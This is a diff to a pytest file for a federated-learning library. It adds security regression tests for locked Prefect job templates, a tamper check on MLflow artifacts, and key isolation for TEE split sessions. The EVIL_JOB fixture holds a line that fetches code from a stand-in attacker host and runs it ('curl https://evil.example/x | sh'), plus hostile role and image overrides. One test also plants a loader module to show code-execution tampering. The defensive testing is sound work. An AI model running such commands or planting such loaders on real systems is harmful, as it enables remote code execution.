@@ -204,7 +204,7 @@ def test_2_the_split_channel_and_the_residual_loader_share_the_parser(fed, caplo
     from fedlib.split.channel import HelloChallenges, client_hello, server_accept
 
     hello, pending = client_hello(fed.ring, "aws", HelloChallenges().issue(0.0))
-    server, nonce = server_accept(fed.ring, hello)
+    server = server_accept(fed.ring, hello).channel
     with pytest.raises(UpdateRejected) as info:
         server.open("train-activations", _nested_header_envelope())
     assert info.value.reason is Reason.MALFORMED
@@ -1495,3 +1495,161 @@ def test_o6_sev_snp_refuses_vmpl_3_a_migration_agent_old_abi_revoked_keys_and_un
         mangled = {**evidence, "vcek": base64.b64encode(der).decode()}
         assert refused(mangled) is Refusal.MALFORMED
     assert report  # the report itself was sound: only the certificate was mangled
+
+
+EVIL_JOB = {
+    "command": "sh -c 'curl https://evil.example/x | sh'",
+    "env": {"PYTHONPATH": "/evil", "FEDLIB_EVIL": "1"},
+    "env.FEDLIB_EVIL_DOTTED": "1",
+    "image": "evil.example/fedlib:latest",
+    "task_definition_arn": "arn:aws:ecs:eu-west-1:1:task-definition/evil:1",
+    "task_role_arn": "arn:aws:iam::1:role/evil",
+    "service_account_name": "evil-sa",
+    "identities": ["/subscriptions/evil/identity"],
+    "entrypoint": "/evil.sh",
+    "args": ["evil"],
+    "env_from_secrets": {"EVIL": {"secret": "evil", "version": "latest"}},
+    "working_dir": "/tmp/evil",
+}
+
+
+@pytest.mark.parametrize("kind", ["process", "ecs", "cloud-run-v2", "azure-container-instance", "kubernetes"])
+def test_o4_no_run_of_a_client_chooses_its_command_image_env_or_identity(kind):
+    """Whoever may start a client's runs passes `job_variables` overriding the command, the
+    environment, the image and the identity of the job. Rendered by Prefect's own
+    `from_template_and_values` (what the worker does before it starts the job), the template shipped
+    at 6dfc021, Prefect's default, ran all of it: the caller's command, with the client's key volume
+    and bucket role, or with the caller's role. The shipped templates are locked: nothing of the
+    caller's reaches the job. And the client refuses at start a run that carries any of them."""
+    import asyncio
+    import importlib
+
+    from prefect.workers.base import BaseJobConfiguration
+    from pydantic import ConfigDict
+
+    from tasks.job_lock import CLIENT_ENTRYPOINT, UnlockedJob, refuse_unlocked_job
+    from tests.conftest import ROOT
+
+    class RenderedJob(BaseJobConfiguration):  # every template's own fields, as the worker renders them
+        model_config = ConfigDict(extra="allow")
+
+    def rendered(template: dict) -> str:
+        job = asyncio.run(RenderedJob.from_template_and_values(template, EVIL_JOB, client=object()))
+        return job.model_dump_json()
+
+    workers = {  # the worker packages in .venv: their defaults are the templates shipped at 6dfc021
+        "process": "prefect.workers.process:ProcessWorker",
+        "ecs": "prefect_aws.workers.ecs_worker:ECSWorker",
+        "cloud-run-v2": "prefect_gcp.workers.cloud_run_v2:CloudRunWorkerV2",
+        "azure-container-instance": "prefect_azure.workers.container_instance:AzureContainerWorker",
+    }
+    if kind in workers:  # (prefect-kubernetes is not installed here: its shipped template is attacked below all the same)
+        module, name = workers[kind].split(":")
+        before = getattr(importlib.import_module(module), name).get_default_base_job_template()
+        assert "evil" in rendered(before)  # the attack, on the template as it was
+    assert "evil" not in rendered(json.loads((ROOT / "deployments" / "work-pools" / f"{kind}.json").read_text()))
+
+    refuse_unlocked_job(CLIENT_ENTRYPOINT, {"cpu": 1024}, None)  # sizes are the caller's to choose
+    for variables in ({"command": "x"}, {"env.X": "1"}, {"image": "x"}):
+        with pytest.raises(UnlockedJob, match="job_variables"):
+            refuse_unlocked_job(CLIENT_ENTRYPOINT, None, variables)
+    with pytest.raises(UnlockedJob, match="entrypoint"):
+        refuse_unlocked_job("flows/federated_training.py:federated_training", None)
+
+
+def test_o5_a_version_edited_in_the_artifact_store_is_refused_before_anything_of_it_loads(tmp_path, corpus_dir, tiny_model_dir):
+    """Whoever can write to MLflow's artifact store edits the champion's files: its `MLmodel` names a
+    `python_function` loader module planted beside it (which `mlflow.pyfunc.load_model` imports and
+    runs, as docs/results.md recommended at 6dfc021), and its PEFT weights are swapped for another
+    round's. At 6dfc021 `fedlib export` wrote the swapped weights out as the champion. Now every
+    file of a version is in the aggregator's signed record, and `fedlib export` (adapter, merged or
+    MLflow model) refuses a version whose files differ, naming the file, before any of it loads."""
+    import yaml
+    from mlflow.tracking import MlflowClient
+
+    from fedlib_cli.main import main
+    from flows.federated_training import federated_training
+    from tests.conftest import write_config
+
+    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS)
+    raw["training"]["rounds"] = 2
+    config_path = write_config(tmp_path, raw)
+    federated_training(str(config_path))
+    config = parse_config(raw)
+    client = MlflowClient(config.tracking_uri, registry_uri=config.tracking_uri)
+    champion = client.get_model_version_by_alias(config.registered_model_name, config.tracking.champion_alias)
+    assert main(["export", str(config_path), "--out", str(tmp_path / "clean"), "--mlflow-model"]) == 0  # untouched: exported
+    assert (tmp_path / "clean" / "MLmodel").exists()
+
+    run = client.get_run(champion.run_id)
+    folder = Path(urlparse(run.info.artifact_uri).path) / champion.source.split("/", 2)[2]
+    other = next(v for v in client.search_model_versions(f"name = '{config.registered_model_name}'") if v.version != champion.version)
+    other_folder = Path(urlparse(client.get_run(other.run_id).info.artifact_uri).path) / other.source.split("/", 2)[2]
+    weights = folder / "peft" / "adapter_model.safetensors"
+    original = weights.read_bytes()
+    weights.write_bytes((other_folder / "peft" / "adapter_model.safetensors").read_bytes())
+    assert main(["export", str(config_path), "--out", str(tmp_path / "swapped")]) == 2
+    assert not (tmp_path / "swapped" / "adapter_model.safetensors").exists()
+    weights.write_bytes(original)
+
+    marker = tmp_path / "planted-code-ran"
+    (folder / "planted.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
+    mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
+    mlmodel["flavors"]["python_function"]["loader_module"] = "planted"
+    (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel))
+    for shape in ([], ["--merge"], ["--mlflow-model"]):
+        assert main(["export", str(config_path), "--out", str(tmp_path / f"edited{len(shape)}{shape}"), *shape]) == 2
+    assert not marker.exists()
+
+
+def test_o2_no_key_file_outside_the_tee_opens_a_recorded_split_session(fed, split_server):
+    """A tap records a split session whose server passed attestation (`split.require_tee`), and
+    holds every key file outside the TEE: the aggregator's (the host, the Nitro parent instance
+    that hands it to a diskless enclave, whoever built the image) and every client's. At 6dfc021
+    the session secret came from the client's ephemeral key and the aggregator's static key, so
+    `aggregator key × recorded ephemeral` opened every recorded activation. Now the server draws
+    an ephemeral key for the session inside the TEE, its public half bound into the evidence; the
+    tap tries every exchange of a key file with every public key it saw, under both the old and
+    the current key derivation, and opens nothing."""
+    import itertools
+
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PublicKey
+    from cryptography.hazmat.primitives.kdf.hkdf import HKDF
+
+    from fedlib.wire.envelope import open_sealed
+    from fedlib.wire.keys import fingerprint, load_keyring
+    from tests.tee_evidence import NitroAttestor
+
+    state, url = split_server
+    state.attestor = NitroAttestor(_vendor())
+    client = _connect(_requiring(fed.config, "test-tee"), url, keep_wire=True)
+    batch = load_data(fed.config).train.tokens[:2]
+    client.calibrate([batch])
+    hello, answer, recorded = json.loads(client.transport.wire[2]), json.loads(client.transport.wire[3]), client.transport.wire[4]
+    session, nonce = hello["session"], answer["server_nonce"]
+
+    files = load_keyring(fed.config.data_path / "keys", list(CLOUDS))  # every key file there is, outside the TEE
+    privates = [files.aggregator_private, *files.client_private.values()]
+    seen = [hello["ephemeral"], *([answer["server_ephemeral"]] if "server_ephemeral" in answer else [])]
+    publics = [X25519PublicKey.from_public_bytes(bytes.fromhex(h)) for h in seen]
+    publics += [files.aggregator_public, *files.client_public.values()]
+    raw = {key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw) for key in publics}
+    static = files.aggregator_shared_secret("aws")
+    candidates = {private.exchange(public) for private, public in itertools.product(privates, publics)}
+    candidates |= {bytes(32), static}
+    infos = [f"fedlib/split/v2/{session}/{nonce}".encode()]  # the derivation at 6dfc021
+    infos += [f"fedlib/split/v3/{session}/{nonce}/{h}".encode() for h in seen]  # today's, with any key seen as the server's
+    ctx = EnvelopeContext(f"split/{session}", 0, "aws>server")
+    opened = []
+    for shared, info in itertools.product(candidates, infos):
+        for first, second in ((shared, static), (static, shared)):
+            key = UpdateKey(HKDF(hashes.SHA256(), 32, salt=None, info=info).derive(first + second), fingerprint(files.public_key("aws")))
+            try:
+                open_sealed(recorded, key, ctx)
+                opened.append(info)
+            except UpdateRejected:
+                pass
+    assert len(candidates) >= 10 and len(raw) == len(publics)  # every exchange the key files allow was tried
+    assert opened == [], f"a key file outside the TEE opened a recorded message ({opened[0]!r})"
+    client.train_step(batch)  # and the session itself works
